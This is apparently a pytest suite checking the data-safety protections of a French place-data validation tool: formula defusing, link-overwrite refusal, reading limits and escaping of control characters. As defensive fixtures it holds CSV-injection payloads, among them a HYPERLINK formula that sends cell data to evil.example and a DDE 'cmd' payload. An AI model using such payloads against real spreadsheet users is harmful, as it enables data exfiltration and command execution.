"""Data safety of the headless core (issue 13): unencodable text, outputs never over the input, defused CSV
cells, French messages instead of Python internals, reading limits."""

from __future__ import annotations

import json
import os

import pytest

from plugin.core import cli

ROOT_ARGS = ["--today", "2025-06-01", "--lang", "en"]


def run(capsys, *args):
    code = cli.main(["validate", *map(str, args), *ROOT_ARGS])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


# ------------------------------------------------------------------------------------------------ item 3
def test_fix_of_a_file_with_lone_surrogates_replaces_and_reports_them(capsys, tmp_path):
    source = tmp_path / "surrogate.json"
    source.write_text('[{"id": "x", "nom": "\\ud800"}]', encoding="utf-8")
    before = source.read_bytes()
    fixed = tmp_path / "corrige.csv"
    code, out, err = run(capsys, source, "--fix", fixed)
    assert code == 1  # errors in the file (required fields), not an internal error (3)
    assert "\ufffd" in fixed.read_text(encoding="utf-8") and source.read_bytes() == before
    assert "Row 1 · id x" in out and "nom · lost-characters" in out  # replaced, and reported where


def test_a_lone_surrogate_in_a_key_is_replaced_too(capsys, tmp_path):
    source = tmp_path / "cle.json"
    source.write_text('[{"id": "x", "col\\udfff": "v"}]', encoding="utf-8")
    code, out, _ = run(capsys, source, "--format", "json")
    report = json.loads(out)
    assert code == 1 and report["rows"] == 1
    assert any(issue["code"] == "lost-characters" for issue in report["issues"])


# ------------------------------------------------------------------------------------------------ item 8
def test_output_onto_a_hard_link_of_the_input_is_refused(capsys, tmp_path, samples):
    source = tmp_path / "lieux.csv"
    source.write_bytes((samples / "bad.csv").read_bytes())
    link = tmp_path / "lien.json"
    os.link(source, link)
    before = source.read_bytes()
    code, _, err = run(capsys, source, "--format", "json", "-o", link)
    assert code == 2 and source.read_bytes() == before and link.read_bytes() == before
    assert "lien.json" in err
    code, _, err = run(capsys, source, "--fix", link)
    assert code == 2 and source.read_bytes() == before


def test_output_onto_a_symlink_of_the_input_is_refused(capsys, tmp_path, samples):
    source = tmp_path / "lieux.csv"
    source.write_bytes((samples / "bad.csv").read_bytes())
    link = tmp_path / "lien.txt"
    link.symlink_to(source)
    code, _, _ = run(capsys, source, "-o", link)
    assert code == 2 and source.read_bytes() == (samples / "bad.csv").read_bytes()


@pytest.fixture
def samples(shared_data):
    path = shared_data / "samples"
    if not path.exists():
        pytest.skip("../shared/data/samples is not available")
    return path


# ------------------------------------------------------------------------------------------------ item 4
@pytest.mark.parametrize("as_stream", [False, True])
def test_the_writer_writes_every_lieu_or_nothing(tmp_path, schema, as_stream):
    from plugin.core.errors import WriteError
    from plugin.core.writers import write_records

    target = tmp_path / "export.csv"
    target.write_text("ancien", encoding="utf-8")
    records = [{"id": "a", "nom": "A"}, {"id": "", "nom": ""}, {"nom": None}, {"id": "d", "latitude": 0}]
    with pytest.raises(WriteError) as info:
        write_records(target, iter(records) if as_stream else records, schema)
    assert info.value.code == "empty-lieux" and "2 " in info.value.message and "2, 3" in info.value.message
    assert target.read_text(encoding="utf-8") == "ancien" and [p.name for p in tmp_path.iterdir()] == ["export.csv"]
    kept = [dict(record, colonne="gardée") for record in records]
    write_records(target, iter(kept) if as_stream else kept, schema, extra=["colonne"])
    from plugin.core.readers import read_table

    assert read_table(target).row_count == 4


# ------------------------------------------------------------------------------------------------ item 5
FORMULAS = ["=1+1", "-2+3", "+33123456789", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1+1",
            '=HYPERLINK("http://evil.example/?"&A1;"clic")', "\uff1d1+1", "-", "+"]


def assert_no_formula(text: str) -> int:
    """Every cell of a CSV text reads as text in a spreadsheet; returns the number of cells seen."""
    import csv
    import io

    from plugin.core.csv_safety import FORMULA_STARTS

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    return len(cells)


@pytest.mark.parametrize("value", FORMULAS)
def test_defuse_cell_defuses_every_formula_start(value):
    from plugin.core.csv_safety import defuse_cell

    assert defuse_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Médiathèque", "", "2 rue de la Paix", "a=b", "mairie@reims.fr", 5, None, "'=1"])
def test_defuse_cell_leaves_plain_values(value):
    from plugin.core.csv_safety import defuse_cell

    assert defuse_cell(value) == value


def test_the_producers_report_defuses_every_column():
    from plugin.core.producer_report import issues_csv, lieux_of
    from plugin.core.validation.issues import Issue, Report

    issues = [Issue(row=i + 1, id=formula, field="nom", code="whitespace", severity="warning", message=formula,
                    value=formula, suggestion=formula) for i, formula in enumerate(FORMULAS)]
    report = Report(rows=len(FORMULAS), issues=issues, source="x.csv", schema_version="1.0.2")
    lieux = lieux_of([{"nom": formula, "commune": formula} for formula in FORMULAS])
    text = issues_csv(report, lieux, accepted=[(issues[0], "=cmd|' /C calc'!A0")])
    assert assert_no_formula(text) > 13 * len(FORMULAS)
    assert text.count("'=HYPERLINK(") == 6  # id, nom, commune, message, value, suggestion of that lieu


def test_an_export_on_request_defuses_and_a_conformant_one_does_not(tmp_path, schema):
    from plugin.core.readers import read_table
    from plugin.core.writers import write_records

    records = [{"id": f"l{i}", "nom": formula, "commune": formula} for i, formula in enumerate(FORMULAS)]
    write_records(tmp_path / "conforme.csv", records, schema)
    assert [r["nom"] for r in read_table(tmp_path / "conforme.csv").rows][:3] == FORMULAS[:3]  # values as they are
    write_records(tmp_path / "tableur.csv", records, schema, defuse_formulas=True)
    assert assert_no_formula((tmp_path / "tableur.csv").read_text(encoding="utf-8")) == 32 * (len(FORMULAS) + 1)


# ------------------------------------------------------------------------------------------------ item 9
PYTHON_INTERNALS = ("islice", "Errno", "field limit", "set_int_max_str_digits", "ValueError", "Error:", "Traceback",
                    "sys.maxsize")


def _hostile_file(tmp_path, kind: str):
    if kind == "sep-only":
        path = tmp_path / "sep.csv"
        path.write_text("sep=;\r\n", encoding="utf-8")
    elif kind == "long-number":
        path = tmp_path / "nombre.json"
        path.write_text('[{"id": "a", "nom": "Lieu", "pivot": ' + "9" * 5000 + "}]", encoding="utf-8")
    elif kind == "huge-cell":
        path = tmp_path / "cellule.csv"
        with open(path, "w", encoding="utf-8") as handle:
            handle.write('id,nom\n1,"')
            handle.write("a" * (3 << 20))  # over the 2 MB limit the test sets (64 MB in use)
            handle.write('"\n')
    else:
        path = tmp_path / "boucle.csv"
        (tmp_path / "autre.csv").symlink_to(path)
        path.symlink_to(tmp_path / "autre.csv")
    return path


@pytest.mark.parametrize("kind", ["sep-only", "long-number", "huge-cell", "link-loop"])
def test_hostile_files_get_french_actionable_messages(capsys, tmp_path, kind, monkeypatch):
    import csv

    from plugin.core.readers import csv_reader

    monkeypatch.setattr(csv_reader, "CSV_FIELD_SIZE_LIMIT", 2 << 20)
    previous = csv.field_size_limit(2 << 20)
    try:
        _check_hostile_file(capsys, tmp_path, kind)
    finally:
        csv.field_size_limit(previous)


def _check_hostile_file(capsys, tmp_path, kind):
    path = _hostile_file(tmp_path, kind)
    code = cli.main(["validate", str(path), "--format", "json", "--lang", "fr"])
    out, err = capsys.readouterr()
    assert code in (1, 2)
    assert not [word for word in PYTHON_INTERNALS if word in out + err]
    if code == 2:
        assert err.strip() and ("fichier" in err or "lien" in err or "cellule" in err)
    else:  # read: the 5,000-digit number is kept as the text it is
        report = json.loads(out)
        assert report["rows"] == 1


# ------------------------------------------------------------------------------------------------ item 10
def _geopackage(path, wal: bool = False):
    """A small GeoPackage of 3 points made with GDAL; WAL journal mode on request."""
    import sqlite3

    from osgeo import ogr, osr

    dataset = ogr.GetDriverByName("GPKG").CreateDataSource(str(path))
    srs = osr.SpatialReference()
    srs.ImportFromEPSG(4326)
    layer = dataset.CreateLayer("lieux", srs, ogr.wkbPoint)
    layer.CreateField(ogr.FieldDefn("nom", ogr.OFTString))
    for i in range(3):
        feature = ogr.Feature(layer.GetLayerDefn())
        feature.SetField("nom", f"Lieu {i}")
        feature.SetGeometry(ogr.CreateGeometryFromWkt(f"POINT (5.{i} 43.{i})"))
        layer.CreateFeature(feature)
    dataset = None
    if wal:
        connection = sqlite3.connect(path)
        connection.execute("PRAGMA journal_mode=WAL")
        connection.close()
    return path


def test_reading_a_wal_geopackage_leaves_nothing_beside_it(tmp_path):
    from plugin.core.readers import read_table

    path = _geopackage(tmp_path / "wal.gpkg", wal=True)
    before = path.read_bytes()
    assert read_table(path).row_count == 3
    assert sorted(p.name for p in tmp_path.iterdir()) == ["wal.gpkg"] and path.read_bytes() == before


@pytest.mark.parametrize("damage", ["geom = X'47500003E6100000FFFF'", "geom = CAST(X'4750FFFF' AS TEXT)",
                                    "nom = CAST(X'41FF42' AS TEXT)"])
def test_one_damaged_feature_does_not_make_a_geopackage_unreadable(tmp_path, damage):
    import sqlite3

    from plugin.core.readers import read_table

    path = _geopackage(tmp_path / "abime.gpkg")
    connection = sqlite3.connect(path)
    for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
        connection.execute(f'DROP TRIGGER "{name}"')
    connection.execute(f"UPDATE lieux SET {damage} WHERE fid = 2")
    connection.commit()
    connection.close()
    table = read_table(path)
    assert table.row_count == 3 and table.rows[2]["latitude"] == "43.2"
    if damage.startswith("geom"):
        assert table.rows[1]["latitude"] == "" and any("1" in note for note in table.notes)
    else:
        assert table.rows[1]["nom"] == "A\ufffdB" and table.lossy_cells == [(2, "nom")]


def test_nul_bytes_after_the_first_64_kb_are_refused_with_the_line(tmp_path):
    from plugin.core.errors import ReadError
    from plugin.core.readers import read_table

    path = tmp_path / "zeros.csv"
    lines = ["id,nom"] + [f"l{i},Lieu numéro {i}" for i in range(5000)]
    path.write_bytes(("\n".join(lines) + "\n").encode("utf-8") + b"\x00" * 4096)
    with pytest.raises(ReadError) as info:
        read_table(path)
    assert info.value.code == "nul-bytes" and "5002" in info.value.message


def test_control_characters_of_the_data_are_escaped_in_the_text_report(capsys, tmp_path):
    path = tmp_path / "ansi.csv"
    rows = ["id,nom,telephone,site_web"] + [f"l{i},Lieu {i} de la ville,+33102030405,https://a.fr" for i in range(300)]
    rows.append('x,"A\x1b[31mROUGE","01\x1b[2J23\r\u202eZ","http://\x1b]0;titre\x07x"')
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    code, out, _ = run(capsys, path)
    assert "\\x1b[2J" in out and "\\x1b]0;titre\\x07" in out
    assert not [c for c in out if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c == "\u202e"]


def test_a_file_with_only_a_header_is_not_called_conformant(capsys, tmp_path, schema):
    path = tmp_path / "entete.csv"
    path.write_text(",".join(schema.field_names) + "\n", encoding="utf-8")
    code, out, _ = run(capsys, path)
    assert "NO LIEU" in out and "CONFORMANT —" not in out.replace("NOT CONFORMANT", "")
    code, out, _ = run(capsys, path, "--format", "json")
    assert [issue["code"] for issue in json.loads(out)["issues"]] == ["no-lieu"]


# ------------------------------------------------------------------------------------------------ item 6
def test_a_wide_header_is_deduplicated_in_linear_time():
    import time

    from plugin.core.records import column_keys

    start = time.process_time()
    keys, duplicates, _ = column_keys(["c"] * 100_000)
    assert time.process_time() - start < 2.0  # was 62 s (a list searched for every column)
    assert len(set(keys)) == 100_000 and len(duplicates["c"]) == 100_000


def test_copies_of_one_row_give_a_bounded_number_of_duplicate_issues(schema):
    from plugin.core.validation import ValidationOptions, validate_records
    from plugin.core.validation.duplicates import DuplicateSettings
    from tests.unit.validation.helpers import VALID

    records = [dict(VALID, id=f"x{i}") for i in range(1000)]  # one lieu copied 1,000 times (new ids)
    report = validate_records(records, schema, ValidationOptions(duplicates=DuplicateSettings()))
    duplicates = [issue for issue in report.issues if issue.code == "probable-duplicate"]
    assert 0 < len(duplicates) <= 2 * len(records)  # was 1000 × 999 = 999,000
    assert {issue.row for issue in duplicates} == set(range(1, 1001))


def test_running_out_of_memory_is_a_message_not_a_bug(capsys, tmp_path, monkeypatch):
    from plugin.core import cli as cli_module

    def exhausted(*args, **kwargs):
        raise MemoryError

    monkeypatch.setattr(cli_module, "run_validate", exhausted)
    code = cli_module.main(["validate", str(tmp_path / "x.csv"), "--lang", "fr"])
    err = capsys.readouterr().err
    assert code == 2 and "mémoire" in err and "défaut de l'extension" not in err


def _in_subprocess(code: str, cap_gb: float = 1.5) -> tuple[int, str, float]:
    """Run Python code in a child under an address-space cap; (return code, output, child's peak RSS in MB)."""
    import resource
    import subprocess
    import sys

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (int(cap_gb * 2**30),) * 2)

    import os
    import tempfile

    # the child's own peak (os.wait4), not RUSAGE_CHILDREN: that one is the largest of every child the test
    # process has waited for, earlier tests' included
    with tempfile.TemporaryFile("w+") as output:
        child = subprocess.Popen([sys.executable, "-c", code], preexec_fn=limit, stdout=output,
                                 stderr=subprocess.STDOUT, text=True,
                                 cwd=str(__import__("pathlib").Path(__file__).resolve().parents[2]))
        import threading

        watchdog = threading.Timer(60, child.kill)  # a hang fails the test instead of the suite
        watchdog.start()
        try:
            _pid, status, usage = os.wait4(child.pid, 0)
        finally:
            watchdog.cancel()
            child.returncode = 0  # reaped by wait4
        output.seek(0)
        text = output.read()
    return os.waitstatus_to_exitcode(status), text, usage.ru_maxrss / 1024


def test_a_workbook_cell_at_xfd1048576_is_read_in_bounded_memory(tmp_path):
    import openpyxl

    path = tmp_path / "loin.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["id", "nom"])
    sheet.append(["1", "Lieu"])
    sheet["XFD1048576"] = "x"
    workbook.save(path)
    code, output, peak = _in_subprocess(
        "from plugin.core.readers import read_table, ReadError\n"
        f"try:\n    print('rows', read_table({str(path)!r}).row_count)\n"
        "except ReadError as error:\n    print('refused', error.code)"
    )
    # calamine used to abort the process (Rust OOM); the sheet's 1,048,576 rows are now over the row limit
    assert code == 0 and "refused too-many-rows" in output, output[-500:]
    assert peak < 1024


def test_a_workbook_larger_than_the_limit_once_inflated_is_refused(tmp_path, monkeypatch):
    import openpyxl

    from plugin.core.errors import ReadError
    from plugin.core.readers import read_table, xlsx_reader

    path = tmp_path / "bombe.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for i in range(20000):
        sheet.append(["a" * 20, i])
    workbook.save(path)
    assert path.stat().st_size < 400_000
    monkeypatch.setattr(xlsx_reader, "MAX_XLSX_UNCOMPRESSED_BYTES", 1_000_000)
    with pytest.raises(ReadError) as info:
        read_table(path)
    assert info.value.code == "too-large" and "1\xa0Mo" in info.value.message  # the limit the user hit


@pytest.mark.parametrize("kind", ["json", "geojson", "csv", "csv-blank", "xlsx"])
def test_a_table_over_the_row_limit_is_refused_while_reading(tmp_path, monkeypatch, kind):
    import openpyxl

    from plugin.core import readers
    from plugin.core.errors import ReadError
    from plugin.core.readers import csv_reader, detection, json_reader

    for module in (readers, csv_reader, json_reader, detection):
        monkeypatch.setattr(module, "MAX_ROWS", 1000)
    if kind == "json":
        path = tmp_path / "vides.json"
        path.write_text("[" + ",".join(["{}"] * 1001) + "]", encoding="utf-8")  # 2 million of these: 4.4 GB
    elif kind == "geojson":
        path = tmp_path / "points.geojson"
        feature = {"type": "Feature", "properties": {"id": "a"}, "geometry": None}
        path.write_text(json.dumps({"type": "FeatureCollection", "features": [feature] * 1001}), encoding="utf-8")
    elif kind.startswith("csv"):
        path = tmp_path / "lignes.csv"
        row = ",\n" if kind == "csv-blank" else "a,b\n"
        path.write_text("id,nom\n" + row * 1001, encoding="utf-8")
    else:
        path = tmp_path / "lignes.xlsx"
        workbook = openpyxl.Workbook()
        for i in range(1002):
            workbook.active.append([f"l{i}", "Lieu"])
        workbook.save(path)
    with pytest.raises(ReadError) as info:
        readers.read_table(path)
    assert info.value.code == "too-many-rows" and path.name in info.value.message and "1\u202f000" in info.value.message


def test_a_quote_never_closed_is_refused_from_the_stream_without_reading_the_file_again(tmp_path, monkeypatch):
    import csv
    import tracemalloc

    from plugin.core.errors import ReadError
    from plugin.core.readers import csv_reader, read_table

    path = tmp_path / "guillemet.csv"
    with open(path, "w", encoding="utf-8") as handle:
        handle.write('id,nom\n1,"')
        handle.write(("a" * 1000 + "\n") * 8000)  # 8 MB inside one quote that never closes
    monkeypatch.setattr(csv_reader, "CSV_FIELD_SIZE_LIMIT", 2 << 20)
    previous = csv.field_size_limit(2 << 20)
    tracemalloc.start()
    try:
        with pytest.raises(ReadError) as info:
            read_table(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        csv.field_size_limit(previous)
    assert info.value.code == "cell-too-large"
    assert peak < 5 * path.stat().st_size  # 3.5 × now; 10.5 × when the text, its lines and a second parse came
